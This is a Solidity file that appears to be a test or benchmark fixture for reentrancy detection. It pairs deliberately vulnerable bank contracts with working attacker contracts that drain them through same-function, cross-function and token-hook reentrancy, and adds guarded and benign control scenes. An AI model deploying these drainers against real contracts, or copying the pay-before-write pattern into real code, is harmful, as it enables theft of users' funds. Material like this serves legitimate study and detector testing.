// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Parts.sol";

/// Pays before it writes down that it has paid.
contract Bank {
    mapping(address => uint256) public credit;
    bool internal entered;

    function deposit() external payable {
        credit[msg.sender] += msg.value;
    }

    function withdraw() external virtual {
        uint256 amount = credit[msg.sender];
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
        credit[msg.sender] = 0;
    }
}

/// Locks one door, and leaves the other open.
contract HalfGuardedBank is Bank {
    function withdraw() external override {
        require(!entered, "entered");
        entered = true;
        uint256 amount = credit[msg.sender];
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
        credit[msg.sender] = 0;
        entered = false;
    }

    function move(address to, uint256 amount) external {
        credit[msg.sender] -= amount;
        credit[to] += amount;
    }
}

/// Writes first, and locks as well.
contract GuardedBank is Bank {
    function withdraw() external override {
        require(!entered, "entered");
        entered = true;
        uint256 amount = credit[msg.sender];
        credit[msg.sender] = 0;
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "not sent");
        entered = false;
    }
}

interface Receiver777 {
    function tokensReceived(address operator, address from, address to, uint256 amount, bytes calldata, bytes calldata)
        external;
}

/// A token that tells who gets it.
contract HookCoin is Coin {
    constructor() Coin("HOOK") {}

    function _move(address from, address to, uint256 value) internal override {
        super._move(from, to, value);
        if (to.code.length > 0) {
            try Receiver777(to).tokensReceived(msg.sender, from, to, value, "", "") {} catch {}
        }
    }
}

/// Holds a token with hooks, and pays before it writes.
contract HookBank {
    HookCoin public immutable coin;
    mapping(address => uint256) public credit;

    constructor(HookCoin coin_) {
        coin = coin_;
    }

    function deposit(uint256 amount) external {
        coin.transferFrom(msg.sender, address(this), amount);
        credit[msg.sender] += amount;
    }

    function withdraw() external virtual {
        coin.transfer(msg.sender, credit[msg.sender]);
        credit[msg.sender] = 0;
    }
}

contract SafeHookBank is HookBank {
    constructor(HookCoin coin_) HookBank(coin_) {}

    function withdraw() external override {
        uint256 amount = credit[msg.sender];
        credit[msg.sender] = 0;
        coin.transfer(msg.sender, amount);
    }
}

/// Sends all that it has.
abstract contract Payer {
    function send(address to) internal {
        (bool sent,) = to.call{value: address(this).balance}("");
        require(sent, "not sent");
    }
}

contract SameThief is Payer {
    Bank immutable bank;
    address immutable owner;

    constructor(Bank bank_) {
        bank = bank_;
        owner = msg.sender;
    }

    function run() external payable {
        bank.deposit{value: msg.value}();
        bank.withdraw();
        send(tx.origin);
    }

    receive() external payable {
        if (address(bank).balance >= msg.value) bank.withdraw();
    }
}

contract Helper is Payer {
    function take(Bank bank) external {
        bank.withdraw();
        send(msg.sender);
    }

    receive() external payable {}
}

contract CrossThief is Payer {
    HalfGuardedBank immutable bank;
    Helper immutable helper = new Helper();
    bool stealing;

    constructor(HalfGuardedBank bank_) {
        bank = bank_;
    }

    function run() external payable {
        bank.deposit{value: msg.value}();
        stealing = true;
        bank.withdraw();
        stealing = false;
        helper.take(bank);
        send(tx.origin);
    }

    receive() external payable {
        if (stealing) bank.move(address(helper), msg.value);
    }
}

contract HookThief is Receiver777 {
    HookBank immutable bank;
    bool stealing;

    constructor(HookBank bank_) {
        bank = bank_;
    }

    function run() external payable {
        HookCoin coin = bank.coin();
        uint256 mine = coin.balanceOf(address(this));
        coin.approve(address(bank), mine);
        bank.deposit(mine);
        stealing = true;
        bank.withdraw();
        stealing = false;
        coin.transfer(tx.origin, coin.balanceOf(address(this)));
    }

    function tokensReceived(address, address, address, uint256 amount, bytes calldata, bytes calldata) external {
        if (stealing && bank.coin().balanceOf(address(bank)) >= amount) bank.withdraw();
    }
}

contract ReentrancySame is Scene {
    constructor() payable {
        Bank bank = new Bank();
        bank.deposit{value: msg.value}();
        actor = address(new SameThief(bank));
    }
}

contract ReentrancyCross is Scene {
    constructor() payable {
        HalfGuardedBank bank = new HalfGuardedBank();
        bank.deposit{value: msg.value}();
        actor = address(new CrossThief(bank));
    }
}

contract ReentrancyHook is Scene {
    constructor() payable {
        HookCoin coin = new HookCoin();
        HookBank bank = new HookBank(coin);
        coin.mint(address(this), 10 ether);
        coin.approve(address(bank), 10 ether);
        bank.deposit(10 ether);
        HookThief thief = new HookThief(bank);
        coin.mint(address(thief), 1 ether);
        actor = address(thief);
    }
}

/// Gets its money back, and puts it into another bank at once.
contract Mover {
    Bank immutable from;
    Bank immutable to;

    constructor(Bank from_, Bank to_) payable {
        (from, to) = (from_, to_);
        from.deposit{value: msg.value}();
    }

    function run() external payable {
        from.withdraw();
    }

    receive() external payable {
        to.deposit{value: msg.value}();
    }
}

contract HonestMover is Scene {
    constructor() payable {
        actor = address(new Mover{value: msg.value}(new GuardedBank(), new GuardedBank()));
    }
}

/// Tries what the guard forbids, and lives with it.
contract Failing is Payer {
    Bank immutable bank;

    constructor(Bank bank_) payable {
        bank = bank_;
        bank.deposit{value: msg.value}();
    }

    function run() external payable {
        bank.withdraw();
        send(tx.origin);
    }

    receive() external payable {
        try bank.withdraw() {} catch {}
    }
}

contract GuardHolds is Scene {
    constructor() payable {
        GuardedBank bank = new GuardedBank();
        bank.deposit{value: msg.value / 2}();
        actor = address(new Failing{value: msg.value / 2}(bank));
    }
}

/// Stakes what it gets, as a hook is meant to.
contract Staker is Receiver777 {
    HookBank immutable bank;
    HookBank immutable stake;

    constructor(HookBank bank_, HookBank stake_) {
        (bank, stake) = (bank_, stake_);
    }

    function start() external {
        HookCoin coin = bank.coin();
        coin.approve(address(bank), type(uint256).max);
        coin.approve(address(stake), type(uint256).max);
        bank.deposit(coin.balanceOf(address(this)));
    }

    function run() external payable {
        bank.withdraw();
    }

    function tokensReceived(address, address, address, uint256 amount, bytes calldata, bytes calldata) external {
        if (msg.sender == address(bank.coin()) && amount > 0) stake.deposit(amount);
    }
}

contract HonestHook is Scene {
    constructor() payable {
        HookCoin coin = new HookCoin();
        SafeHookBank bank = new SafeHookBank(coin);
        Staker staker = new Staker(bank, new SafeHookBank(coin));
        coin.mint(address(this), 5 ether);
        coin.approve(address(bank), 5 ether);
        bank.deposit(5 ether);
        coin.mint(address(staker), 3 ether);
        staker.start();
        actor = address(staker);
    }
}
